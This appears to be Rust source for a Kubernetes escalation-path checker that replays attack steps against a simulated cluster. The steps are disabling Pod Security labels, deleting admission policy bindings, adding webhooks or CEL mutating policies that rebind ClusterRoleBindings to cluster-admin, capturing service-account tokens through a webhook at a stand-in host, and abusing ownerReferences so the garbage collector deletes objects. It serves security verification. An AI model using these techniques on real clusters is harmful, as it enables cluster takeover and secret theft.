//! Ways around the gates, and through what others do: labels, policies, webhooks, owners, controllers.

use super::pods;
use super::{Done, Hop, Run};
use crate::api::rbac::GROUP;
use crate::api::{Dig, RequestInfo, User};
use crate::cluster::Webhooks;
use crate::json::{Value, json};
use crate::paths::node::{Node, account_user};
use crate::store::Key;
use base64::{Engine, engine::general_purpose::STANDARD};

/// Takes Pod Security off a namespace, and runs a privileged pod there.
pub(in crate::paths) fn labels(run: &mut Run, hop: &Hop<'_>) -> Done {
    const ENFORCE: &str = "pod-security.kubernetes.io/enforce";
    let own = run.candidates(hop.place).into_iter().next().unwrap_or_default();
    let path = format!("/api/v1/namespaces/{own}");
    if run.may_do("patch", "", "namespaces", &own, &own) {
        run.ask("PATCH", &path, Some(&json!({"metadata": {"labels": {ENFORCE: "privileged"}}})))?;
    } else {
        let mut namespace = run.stored("namespaces", "", &own).unwrap_or_default();
        namespace.make("metadata.labels")[ENFORCE] = json!("privileged");
        run.ask("PUT", &path, Some(&namespace))?;
    }
    pods::privileged(run, hop)
}

/// Takes away the bindings of admission policies, and runs a pod.
pub(in crate::paths) fn bindings(run: &mut Run, hop: &Hop<'_>) -> Done {
    const GROUP: &str = "admissionregistration.k8s.io";
    const RESOURCE: &str = "validatingadmissionpolicybindings";
    let stored = format!("{RESOURCE}.{GROUP}");
    let names: Vec<String> =
        run.cluster.store().objects().all(&stored).map(|binding| binding.name().to_owned()).collect();
    let path = run.collection(GROUP, RESOURCE, "");
    for name in names {
        if run.may_do("delete", GROUP, RESOURCE, "", &name) {
            run.ask("DELETE", &format!("{path}/{name}"), None)?;
        }
    }
    pods::create(run, hop)
}

/// Changes what an administrator binds by a webhook, a new one or one that is there: whoever climbs is bound instead.
pub(in crate::paths) fn webhook(run: &mut Run, hop: &Hop<'_>) -> Done {
    run.has_webhook(hop.resource, (GROUP, "clusterrolebindings"))?;
    let me = json!([{"apiGroup": GROUP, "kind": "User", "name": run.receiver()}]);
    let role = json!({"apiGroup": GROUP, "kind": "ClusterRole", "name": "cluster-admin"});
    let patch = json!([
        {"op": "replace", "path": "/subjects", "value": me},
        {"op": "replace", "path": "/roleRef", "value": role},
    ]);
    let answers: Result<Webhooks, _> = crate::json::from_value(json!({URL: {"patch": patch}}));
    if let Ok(answers) = answers {
        run.cluster.change_webhooks(&answers);
    }
    run.administrator_binds()
}

/// Reads by a webhook what an administrator writes into a secret: the server sends it the whole object.
pub(in crate::paths) fn watching_webhook(run: &mut Run, hop: &Hop<'_>) -> Done {
    let answers = |allowed: bool| -> Webhooks {
        crate::json::from_value(json!({URL: {"allowed": allowed}})).unwrap_or_default()
    };
    run.cluster.change_webhooks(&answers(true));
    run.has_webhook(hop.resource, ("", "secrets"))?;
    let secret = hop.through.iter().find_map(|node| match node {
        Node::Secret(namespace, name) => Some((namespace.to_string(), name.clone())),
        _ => None,
    });
    let is_token = secret.is_some();
    let (namespace, name) = match secret {
        Some(secret) => secret,
        None => {
            let namespace = match hop.info.namespace.as_str() {
                "" => run.candidates("").swap_remove(0),
                namespace => namespace.to_owned(),
            };
            let name = run.wanted(hop.info, &namespace)?.swap_remove(0);
            (namespace, name)
        }
    };
    let mut written = run.stored("secrets", &namespace, &name).unwrap_or_default();
    if is_token {
        written = run.filled(&namespace, &name);
        run.cluster.restore([(Key::new("secrets", &namespace, &name), written.clone())]);
    }
    let path = format!("/api/v1/namespaces/{namespace}/secrets/{name}");
    let patch = json!({"metadata": {"labels": {"changed-by": "somebody-else"}}});
    // That it is asked shows where it refuses: nothing is written then.
    let mut asked = Run::new(run.cluster.fork(), run.me.clone());
    asked.cluster.change_webhooks(&answers(false));
    run.ask_as(Run::administrator(), "PATCH", &path, Some(&patch))?;
    if asked.ask_as(Run::administrator(), "PATCH", &path, Some(&patch)).is_ok() {
        return Err(run.stopped("the webhook", "it is not asked about this secret"));
    }
    if !is_token {
        return Ok(());
    }
    crate::registry::complete_tokens(&mut written, run.cluster.token_key());
    let token = STANDARD.decode(written.text("data.token")).unwrap_or_default();
    let account = written.annotation("kubernetes.io/service-account.name").unwrap_or_default();
    run.goes_on_with(&account_user(&namespace, account), &String::from_utf8_lossy(&token))
}

/// The same by an admission policy, which needs no server.
pub(in crate::paths) fn policy(run: &mut Run, _: &Hop<'_>) -> Done {
    const ADMISSION: &str = "admissionregistration.k8s.io";
    let name = run.name();
    let path = run.collection(ADMISSION, "mutatingadmissionpolicies", "");
    let version = path.split('/').nth(3).unwrap_or("v1").to_owned();
    // A text of JSON is one of CEL.
    let me = format!("Object.subjects{{apiGroup: '{GROUP}', kind: 'User', name: {}}}", json!(run.receiver()));
    let role = format!("Object.roleRef{{apiGroup: '{GROUP}', kind: 'ClusterRole', name: 'cluster-admin'}}");
    let expression = format!(
        "[JSONPatch{{op: 'replace', path: '/subjects', value: [{me}]}}, \
         JSONPatch{{op: 'replace', path: '/roleRef', value: {role}}}]"
    );
    let policy = json!({
        "apiVersion": format!("{ADMISSION}/{version}"), "kind": "MutatingAdmissionPolicy", "metadata": {"name": name},
        "spec": {
            "reinvocationPolicy": "Never",
            "matchConstraints": {"resourceRules": [{
                "apiGroups": [GROUP], "apiVersions": ["*"], "operations": ["CREATE"],
                "resources": ["clusterrolebindings"],
            }]},
            "mutations": [{"patchType": "JSONPatch", "jsonPatch": {"expression": expression}}],
        },
    });
    run.ask("POST", &path, Some(&policy))?;
    let binding = json!({
        "apiVersion": format!("{ADMISSION}/{version}"), "kind": "MutatingAdmissionPolicyBinding",
        "metadata": {"name": name}, "spec": {"policyName": name},
    });
    run.ask("POST", &run.collection(ADMISSION, "mutatingadmissionpolicybindings", ""), Some(&binding))?;
    run.administrator_binds()
}

/// Gives an object an owner that is not there: the garbage collector deletes it.
pub(in crate::paths) fn owner(run: &mut Run, hop: &Hop<'_>) -> Done {
    let info = hop.info;
    let stored = match info.group.as_str() {
        "" => info.resource.clone(),
        group => format!("{}.{group}", info.resource),
    };
    let there = run.cluster.store().objects().all(&stored);
    let meant = |object: &&std::sync::Arc<Value>| {
        (info.namespace.is_empty() || object.namespace() == info.namespace)
            && (info.name.is_empty() || object.name() == info.name)
    };
    let found = there.filter(meant).map(|object| (**object).clone()).next();
    let Some(object) = found else {
        return Err(run.stopped("there is none", "no such object can be deleted"));
    };
    let namespace = object.namespace();
    let path = format!("{}/{}", run.collection(&info.group, &info.resource, namespace), object.name());
    let gone = json!([{
        "apiVersion": "v1", "kind": "ConfigMap", "name": "kubeverdict-gone",
        "uid": "00000000-0000-4000-8000-000000000000",
    }]);
    if run.may_do("patch", &info.group, &info.resource, namespace, object.name()) {
        run.ask("PATCH", &path, Some(&json!({"metadata": {"ownerReferences": gone}})))?;
    } else {
        let mut owned = object.clone();
        owned.set("metadata.ownerReferences", gone);
        run.ask("PUT", &path, Some(&owned))?;
    }
    run.ask_as(Run::controller("generic-garbage-collector"), "DELETE", &path, None).map(drop)
}

/// Makes the object at which a controller acts; what it does with its rights is taken for granted, as it was declared.
pub(in crate::paths) fn controller(run: &mut Run, hop: &Hop<'_>) -> Done {
    let Some(declared) = hop.declared else { return Ok(()) };
    let first = || {
        let namespaces = run.cluster.store().objects().all("namespaces");
        namespaces.map(|namespace| namespace.name().to_owned()).find(|name| !name.starts_with("kube-"))
    };
    let place = match hop.place {
        "" => first().unwrap_or_else(|| "default".to_owned()),
        place => place.to_owned(),
    };
    let row = run.cluster.resources().preferred(&declared.group, &declared.resource).cloned();
    let Some(row) = row else {
        let why = format!("{} is not served", crate::api::rbac::typed(&declared.resource, &declared.group));
        return Err(run.stopped("Route", &why));
    };
    let place = if row.namespaced { place } else { String::new() };
    let mut object = declared.object.clone();
    let name = run.name();
    object.set("apiVersion", row.api_version());
    object.set("kind", &*row.kind);
    object.set("metadata", Run::metadata(&name, &place));
    let path = run.collection(&declared.group, &declared.resource, &place);
    run.ask("POST", &path, Some(&object))?;
    run.me = super::Me { user: User::named(&declared.user()).authenticated(), shown: super::Shown::Known };
    run.is_recognised()
}

/// Where the webhook of whoever climbs is.
const URL: &str = "https://kubeverdict.example/hook";

impl Run {
    /// Has the server ask a webhook about what others write, a new one or one that is there.
    fn has_webhook(&mut self, resource: &str, (group, about): (&str, &str)) -> Done {
        let name = self.name();
        let hook = json!({
            "name": "hook.kubeverdict.example", "sideEffects": "None", "admissionReviewVersions": ["v1"],
            "clientConfig": {
                "url": URL, "caBundle": STANDARD.encode(self.cluster.authority().certificate().pem()),
            },
            "rules": [{
                "apiGroups": [group], "apiVersions": ["*"], "operations": ["CREATE", "UPDATE"],
                "resources": [about],
            }],
        });
        const ADMISSION: &str = "admissionregistration.k8s.io";
        if !self.may_do("create", ADMISSION, resource, "", "") {
            let hooks = json!([hook]);
            return self.changes_one(
                (ADMISSION, resource, ""),
                |_| true,
                |there| there.set("webhooks", hooks),
            );
        }
        let kind = match resource {
            "mutatingwebhookconfigurations" => "MutatingWebhookConfiguration",
            _ => "ValidatingWebhookConfiguration",
        };
        let configuration = json!({
            "apiVersion": "admissionregistration.k8s.io/v1", "kind": kind,
            "metadata": {"name": name}, "webhooks": [hook],
        });
        let path = self.collection(ADMISSION, resource, "");
        self.ask("POST", &path, Some(&configuration)).map(drop)
    }

    /// An administrator binds somebody else to something harmless.
    fn administrator_binds(&mut self) -> Done {
        let made = self.name();
        let binding = json!({
            "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": {"name": made},
            "roleRef": {"apiGroup": GROUP, "kind": "ClusterRole", "name": "view"},
            "subjects": [{"apiGroup": GROUP, "kind": "User", "name": "somebody-else"}],
        });
        let path = self.collection(GROUP, "clusterrolebindings", "");
        self.ask_as(Run::administrator(), "POST", &path, Some(&binding)).map(drop)
    }

    /// Sends the request that is asked about.
    pub(super) fn tries(&mut self, info: &RequestInfo) -> Done {
        let method = match info.verb.as_str() {
            verb if !info.is_resource => &verb.to_uppercase(),
            "create" => "POST",
            "update" => "PUT",
            "patch" => "PATCH",
            "delete" | "deletecollection" => "DELETE",
            _ => "GET",
        };
        let collection = self.collection(&info.group, &info.resource, &info.namespace);
        let named = |part: &str| if part.is_empty() { String::new() } else { format!("/{part}") };
        let watch = if info.verb == "watch" { "?watch=1" } else { "" };
        let path = match info.is_resource {
            true => format!("{collection}{}{}{watch}", named(&info.name), named(&info.subresource)),
            false => info.path.clone(),
        };
        let before = self.steps.len();
        match self.ask(method, &path, None) {
            Ok(_) => Ok(()),
            // What comes after the authorizers is no matter of rights.
            Err(_) if self.steps.len() > before && self.steps[before].code != 403 => Ok(()),
            Err(stopped) => Err(stopped),
        }
    }
}
